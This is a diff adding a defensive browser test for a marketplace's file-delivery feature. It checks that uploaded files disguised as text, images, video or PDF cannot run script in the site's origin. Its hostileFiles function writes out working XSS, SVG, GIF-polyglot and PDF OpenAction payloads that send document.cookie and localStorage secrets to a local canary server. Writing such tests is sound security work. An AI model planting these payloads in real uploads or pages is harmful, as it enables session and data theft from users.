@@ -1,0 +1,140 @@
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { chromium, type Browser, type Page } from '@playwright/test';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { findPageBrowser } from '../../../scripts/test/findBrowser.ts';
+import { deliverOrder } from '../../areas/orders/deliveries/deliverOrder.ts';
+import {
+  makeSignedInOrder,
+  uploadDelivery,
+  type SignedInOrder,
+  type WaitingFile,
+} from '../../testing/deliveryFactories.ts';
+import { startTestApp, type TestApp } from '../../testing/testApp.ts';
+
+let app: TestApp;
+let canary: Server;
+let canaryUrl: string;
+let browser: Browser;
+let order: SignedInOrder;
+let files: WaitingFile[] = [];
+let reached: string[] = [];
+
+beforeAll(async () => {
+  canary = createServer((request, response) => {
+    reached.push(request.url ?? '');
+    response.writeHead(200, { 'access-control-allow-origin': '*' }).end();
+  });
+  await new Promise<void>((resolve) => canary.listen(0, '127.0.0.1', resolve));
+  canaryUrl = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
+  app = await startTestApp();
+  order = await makeSignedInOrder(app);
+  for (const [name, content] of Object.entries(hostileFiles())) {
+    const { seller, globalId: orderId } = order;
+    const given = { cookie: seller.cookie, orderId, name, content: Buffer.from(content) };
+    const uploaded = await uploadDelivery(app, given);
+    files = uploaded.order?.waitingFiles ?? [];
+  }
+  await deliverOrder(app.deps, order.creator, { orderId: order.orderId, message: 'Here it is.' });
+  const executablePath = findPageBrowser();
+  browser = await chromium.launch({
+    ...(executablePath ? { executablePath } : {}),
+    args: ['--no-sandbox', '--disable-gpu'],
+  });
+});
+afterAll(async () => {
+  await browser.close();
+  canary.closeAllConnections();
+  canary.close();
+  await app.close();
+});
+
+/** Files whose content is a program, under names that are accepted. */
+function hostileFiles(): Record<string, string> {
+  const script = `localStorage.ran = 'yes'; fetch('${canaryUrl}/ran?' + encodeURIComponent(document.cookie + localStorage.secret)); alert(1);`;
+  const html = `<!doctype html><html><body><script>${script}</script><img src=x onerror="${script}"></body></html>`;
+  const svg = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${script}"><script>${script}</script></svg>`;
+  const action = `app.alert(1); this.submitForm('${canaryUrl}/pdf'); app.launchURL('${canaryUrl}/pdf');`;
+  const pdf = `%PDF-1.7
+1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(${action.replaceAll('(', '\\(').replaceAll(')', '\\)')})>>>>endobj
+2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
+3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj
+trailer<</Root 1 0 R>>
+%%EOF`;
+  return {
+    'page.txt': html,
+    'page.pdf': html,
+    'page.mp4': html,
+    'drawing.png': svg,
+    'drawing.gif': `GIF89a=1;${script}`,
+    'book.pdf': pdf,
+  };
+}
+
+/** A page of our origin in which the fan is signed in and the browser stores a secret. */
+async function openOwnPage(): Promise<{ page: Page; dialogs: string[] }> {
+  const context = await browser.newContext();
+  const [name = '', value = ''] = order.fan.cookie.split('=');
+  await context.addCookies([
+    { name, value, url: app.url },
+    { name: 'readable', value: 'cookie', url: app.url },
+  ]);
+  const page = await context.newPage();
+  const dialogs: string[] = [];
+  context.on('page', (opened) => dialogs.push(`window ${opened.url()}`));
+  page.on('dialog', async (dialog) => {
+    dialogs.push(dialog.message());
+    await dialog.dismiss();
+  });
+  await page.goto(`${app.url}/healthz`);
+  await page.evaluate(() => localStorage.setItem('secret', 'of our origin'));
+  return { page, dialogs };
+}
+
+describe('a delivered file with a program in it', () => {
+  it('does not run when its address is opened, or when any element of a page shows it', async () => {
+    expect(files.map(({ name }) => name)).toHaveLength(6);
+    const { page, dialogs } = await openOwnPage();
+    const addresses = files.flatMap(({ url, previewUrl }) =>
+      previewUrl ? [url, previewUrl] : [url],
+    );
+    reached = [];
+    for (const address of addresses) {
+      // A download has no page.
+      await page.goto(app.url + address).catch(() => undefined);
+      await page.goto(`${app.url}/healthz`);
+      await page.evaluate((src) => {
+        for (const tag of ['img', 'video', 'audio', 'iframe', 'embed', 'script']) {
+          const element = document.createElement(tag);
+          element.setAttribute('src', src);
+          document.body.append(element);
+        }
+        const object = document.createElement('object');
+        object.setAttribute('data', src);
+        document.body.append(object);
+      }, address);
+      await page.waitForLoadState('networkidle');
+    }
+    const ran = await page.evaluate(() => localStorage.getItem('ran'));
+    expect([reached, dialogs, ran]).toEqual([[], [], null]);
+    await page.context().close();
+  });
+
+  it('runs as a page without our headers, as dialog and storage show', async () => {
+    const { page, dialogs } = await openOwnPage();
+    const body = hostileFiles()['page.txt'] ?? '';
+    await page.route('**/control', (route) => route.fulfill({ contentType: 'text/html', body }));
+    await page.goto(`${app.url}/control`);
+    await expect.poll(() => dialogs).toContain('1');
+    expect(await page.evaluate(() => localStorage.getItem('ran'))).toBe('yes');
+    await page.context().close();
+  });
+
+  it('is refused under the name of an SVG or HTML file', async () => {
+    const { seller, globalId: orderId } = await makeSignedInOrder(app);
+    for (const name of ['drawing.svg', 'page.html', 'page.xhtml', 'page.mht']) {
+      const { code } = await uploadDelivery(app, { cookie: seller.cookie, orderId, name });
+      expect(code).toBe('FILE_TYPE_REFUSED');
+    }
+  });
+});
